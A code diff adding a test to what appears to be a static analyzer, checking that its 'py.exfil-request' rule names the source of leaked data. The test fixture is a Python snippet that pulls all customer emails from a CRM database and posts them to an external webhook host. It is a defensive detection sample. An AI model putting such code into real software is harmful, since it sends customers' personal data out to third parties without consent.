@@ -147,3 +147,19 @@ def test_a_helper_mapped_over_a_known_list_is_reported_once_per_distinct_finding
     found = [op.targets for op in analyze("python", MAPPED_OVER_KNOWN, Location("m.py"), Options()).operations
              if op.location.line == 12]
     assert sorted(found) == [("/srv/a.db",), ("/srv/b.db",)]
+
+
+QUERY_SENT = '''
+import sqlite3
+import requests
+
+rows = sqlite3.connect("crm.db").execute("SELECT email FROM customers").fetchall()
+text = "; ".join(email for email, in rows)
+requests.post("https://hooks.example-chat.net/x", json={"text": text, "rows": rows})
+'''
+
+
+def test_a_source_is_named_once_by_its_most_precise_label() -> None:
+    sources = [op.detail("source") for op in analyze("python", QUERY_SENT, Location("m.py"), Options()).operations
+               if op.rule == "py.exfil-request"]
+    assert sources == ["query result (SELECT email FROM customers)"]
